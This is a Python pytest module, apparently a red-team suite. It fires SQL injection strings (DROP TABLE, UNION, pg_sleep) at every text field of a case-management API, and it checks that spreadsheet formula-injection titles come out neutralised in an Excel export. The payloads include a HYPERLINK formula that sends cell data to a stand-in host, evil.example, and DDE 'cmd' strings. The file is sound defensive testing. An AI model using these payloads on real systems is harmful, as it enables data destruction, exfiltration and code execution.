"""Statements and formulas in every text that the interface takes, one place after another, from its own description."""

from __future__ import annotations

import copy
import io
import re
import zipfile
from collections.abc import Generator, Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from openpyxl import load_workbook
from psycopg import sql

from app.api.build import build_api
from app.settings import Settings
from tests.redteam.inside import Inside
from tests.redteam.wire import Target, assert_quiet

SQL = (
    "' OR '1'='1",
    "%'); DROP TABLE case_file; --\\",
    "1)) UNION TABLE account; --",
    "x' || pg_sleep(60)::text || 'y",
    "\u0000'",
)
"""Where the fourth runs, the client's own patience (20 s) ends the test."""
DESCRIPTION = build_api(settings=Settings(_env_file=None)).openapi()  # type: ignore[call-arg]
NOBODY = "0199aa00-0000-7000-8000-000000000001"
WHO = {
    "/api/v1/auth/": ("sthj",),
    "/api/v1/visits": ("guide",),
    "/api/v1/cases/export": ("center", "leader", "rsj_head", "zjj_head"),
    "/api/v1/cases/search": ("center", "leader", "rsj_head", "zjj_head"),
    "/api/v1/journal/": ("auditor",),
    "/api/v1/cases/{": ("center",),
    "/api/v1/cases": ("registrar2",),
    "/api/v1/persons/": ("rsj",),
    "/api/v1/reports/export": ("leader", "rsj_head", "zjj_head"),
    "/api/v1/risk-labels": ("model",),
}
"""Who may reach the database there, several where one would soon have asked too often."""
SPARED = {"/api/v1/cases/export": SQL[2:4]}
"""It narrows by what the search narrows by, and takes a tenth of a second each time."""
COUNTED = ("account", "unit", "case_file", "case_party", "person", "visit", "assignment", "custom_role")
REGISTERED = ("case.create", "visit.register")
OUTSIDE = {"POST /api/v1/attachments"}
"""Takes a picture and no text; see test_pictures.py."""


@dataclass(frozen=True)
class Place:
    """A text that an operation takes: a parameter by name, or a string in its body by its path."""

    method: str
    path: str
    where: str
    steps: tuple[str | int, ...]

    def __str__(self) -> str:
        return f"{self.method} {self.path} {self.where} {'.'.join(map(str, self.steps))}"


def resolved(schema: dict[str, Any]) -> dict[str, Any]:
    """Follow a reference; of alternatives take the first that is not null."""
    if "$ref" in schema:
        return resolved(DESCRIPTION["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]])
    for key in ("anyOf", "allOf", "oneOf"):
        if key in schema:
            return resolved(next(one for one in schema[key] if one.get("type") != "null"))
    return schema


def texts(schema: dict[str, Any], steps: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Give the paths of all strings of a body."""
    schema = resolved(schema)
    if schema.get("type") == "string":
        yield steps
    elif schema.get("type") == "array":
        yield from texts(schema["items"], (*steps, 0))
    for name, inner in schema.get("properties", {}).items():
        yield from texts(inner, (*steps, name))


def operations() -> Iterator[tuple[str, str, dict[str, Any]]]:
    for path, methods in DESCRIPTION["paths"].items():
        for method, operation in methods.items():
            if f"{method.upper()} {path}" not in OUTSIDE:
                yield method.upper(), path, operation


def schema_of(operation: dict[str, Any]) -> dict[str, Any]:
    return operation.get("requestBody", {}).get("content", {}).get("application/json", {})


def places() -> list[Place]:
    found = []
    for method, path, operation in operations():
        found += [Place(method, path, one["in"], (one["name"],)) for one in operation.get("parameters", [])]
        if content := schema_of(operation):
            found += [Place(method, path, "body", steps) for steps in texts(content["schema"])]
    return found


PLACES = places()


def example(place: Place, area: str) -> Any:
    """Give a body as the description shows it, with an area there is, and so that no step of a case is taken."""
    content = schema_of(DESCRIPTION["paths"][place.path][place.method.lower()])
    shown = copy.deepcopy(next(iter(content.get("examples", {}).values()), {}).get("value", {}))
    other = {"area": area} if "area" in shown else {}
    other |= {"lead_department": "nowhere"} if place.path.endswith("/actions/{action}") else {}
    other |= {"account": "nobody-3"} if "account" in shown else {}
    return shown | other


def with_text(body: Any, schema: dict[str, Any], steps: tuple[str | int, ...], text: str) -> Any:
    """Put a text into a body, and make what is missing on the way."""
    if not steps:
        return text
    schema, (step, *rest) = resolved(schema), steps
    if isinstance(step, int):
        inner = body[0] if isinstance(body, list) and body else {}
        return [with_text(inner, schema["items"], tuple(rest), text)]
    given = body if isinstance(body, dict) else {}
    return given | {step: with_text(given.get(step), schema["properties"][step], tuple(rest), text)}


@dataclass(frozen=True)
class Known:
    """What there is: ordinary values beside the one that is none."""

    number: str
    area: str

    def send(self, client: httpx.Client, place: Place, text: str) -> httpx.Response:
        """Send an operation with a text in one place and ordinary values elsewhere."""
        name, path = str(place.steps[0]) if place.steps else "", place.path
        values = {"number": self.number, "action": "dispatch", "code": "rsj", "measure": "received"}
        for one in re.findall(r"{(\w+)}", path):
            mine = place.where == "path" and one == name
            path = path.replace(f"{{{one}}}", quote(text, safe="") if mine else values.get(one, NOBODY))
        content, body = schema_of(DESCRIPTION["paths"][place.path][place.method.lower()]), None
        if content:
            body = example(place, self.area)
        if place.where == "body":
            body = with_text(body, content["schema"], place.steps, text)
        query = {name: text} if place.where == "query" else {}
        headers = {name: text.replace("\0", "")} if place.where == "header" else {}
        return client.request(place.method, path, params=query, headers=headers, json=body)


@pytest.fixture(scope="module")
def known(target: Target) -> Known:
    """Ask for a case that waits for its dispatch, and for an area."""
    client = target.honest("center")
    waiting = client.get("/api/v1/cases", params={"status": "to_dispatch"}).json()["items"]
    return Known(waiting[0]["number"], client.get("/api/v1/areas", params={"q": "镇"}).json()[0]["code"])


@pytest.fixture(autouse=True)
def nothing_stays(request: pytest.FixtureRequest) -> Generator[None]:
    """Take back what was registered."""
    if "inside" not in request.fixturenames:
        yield
        return
    inside: Inside = request.getfixturevalue("inside")
    mark = inside.mark()
    yield
    made = {action: [line["subject_id"] for line in inside.journal(mark, action)] for action in REGISTERED}
    with inside.owner() as database:
        database.execute("DELETE FROM case_party WHERE case_id = ANY(%s)", (made["case.create"],))
        database.execute("DELETE FROM case_file WHERE id = ANY(%s)", (made["case.create"],))
        database.execute("DELETE FROM visit WHERE id = ANY(%s)", (made["visit.register"],))


def client_of(target: Target, inside: Inside, path: str, turn: int) -> httpx.Client:
    """Give a program that may reach the database there; its wrong passwords are forgotten."""
    logins = next((who for start, who in WHO.items() if path.startswith(start)), ("center",))
    if logins == ("sthj",):
        with inside.owner() as database:
            database.execute("UPDATE account SET failures = 0, lockouts = 0, locked_until = NULL WHERE login = 'sthj'")
    return inside.lent(target, "auditor") if logins == ("auditor",) else target.honest(logins[turn % len(logins)])


def counts(inside: Inside) -> dict[str, int]:
    words = sql.SQL("SELECT count(*) AS n FROM {}")
    with inside.owner() as database:
        return {table: database.execute(words.format(sql.Identifier(table))).fetchall()[0]["n"] for table in COUNTED}


class TestStatements:
    def test_are_tried_wherever_a_text_is_taken(self) -> None:
        reached = {f"{one.method} {one.path}" for one in PLACES}
        silent = {f"{method} {path}" for method, path, _ in operations()} - reached
        assert silent == {
            "DELETE /api/v1/auth/token", "POST /api/v1/auth/second-factor", "GET /api/v1/vocabularies",
            "GET /api/v1/departments", "GET /api/v1/lists",
        }  # fmt: skip

    @pytest.mark.parametrize("path", sorted({place.path for place in PLACES}))
    def test_stay_texts(self, target: Target, inside: Inside, known: Known, path: str) -> None:
        before, made = counts(inside), 0
        for place in (place for place in PLACES if place.path == path):
            for turn, text in enumerate(SPARED.get(path, SQL)):
                answer = known.send(client_of(target, inside, path, turn), place, text)
                assert answer.status_code < 500, (str(place), text, answer.text[:300])
                assert answer.status_code not in {401, 403, 429} or "/auth/" in path, (str(place), text, answer.text)
                assert_quiet(answer.text)
                assert "argon2" not in answer.text
                made += answer.status_code == 201
        after = counts(inside)
        grown = {table for table in COUNTED if after[table] != before[table]}
        assert grown <= ({"case_file", "case_party", "person", "visit"} if made else set())
        assert 0 <= after["case_file"] - before["case_file"] + after["visit"] - before["visit"] <= made

    def test_in_a_sign_in_open_nothing(self, target: Target) -> None:
        for text in SQL:
            form = {"account": f"center{text}", "password": text, "next": "/"}
            answer = target.stranger(**target.origin).post("/auth/login", data=form)
            assert answer.status_code in {200, 401, 422, 429}
            assert "fq_session" not in answer.headers.get("set-cookie", "")


FORMULAS = (
    '=HYPERLINK("http://evil.example?x="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\t=1+1",
)


class TestFormulas:
    def test_of_titles_are_texts_in_the_workbook(self, target: Target, inside: Inside, known: Known) -> None:
        client, made = target.honest("center"), []
        for text in FORMULAS:
            answer = client.post("/api/v1/cases", json=drafted(text, known.area))
            assert answer.status_code == 201, answer.text
            made.append(answer.json()["number"])
        mark = inside.mark()
        answer = client.post("/api/v1/cases/export", json={"status": ["draft"]})
        assert answer.status_code == 200
        with zipfile.ZipFile(io.BytesIO(answer.content)) as packed:
            sheet = packed.read("xl/worksheets/sheet1.xml")
            names = packed.namelist()
        assert b"<f>" not in sheet
        assert b"<hyperlink" not in sheet
        assert not any("externalLink" in name or "vba" in name for name in names)
        rows = load_workbook(io.BytesIO(answer.content)).active.iter_rows(min_row=4)  # type: ignore[union-attr]
        found = {row[0].value: row[1] for row in rows}
        for number in made:
            assert found[number].data_type == "s"
            assert str(found[number].value).startswith("'")
        assert inside.journal(mark, "case.export")


def drafted(title: str, area: str) -> dict[str, Any]:
    return example(Place("POST", "/api/v1/cases", "body", ("title",)), area) | {"title": title}
